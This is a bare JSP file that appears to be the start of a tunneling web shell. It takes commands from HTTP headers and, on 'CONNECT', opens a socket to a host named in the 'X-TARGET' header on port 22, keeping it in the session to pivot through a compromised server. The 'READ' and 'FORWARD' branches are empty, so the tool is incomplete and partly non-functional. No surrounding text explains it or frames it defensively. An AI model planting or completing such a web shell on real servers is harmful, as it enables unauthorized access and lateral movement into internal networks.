<%@ page import="java.nio.channels.*,java.net.*" %>
<%
String cmd = request.getHeader("X-CMD");
if (cmd.equals("CONNECT")) { SocketChannel sc = SocketChannel.open(); sc.connect(new InetSocketAddress(request.getHeader("X-TARGET"), 22)); session.setAttribute("s", sc); response.setHeader("X-STATUS", "OK"); }
else if (cmd.equals("DISCONNECT")) { ((SocketChannel) session.getAttribute("s")).close(); }
else if (cmd.equals("READ")) { }
else if (cmd.equals("FORWARD")) { }
%>
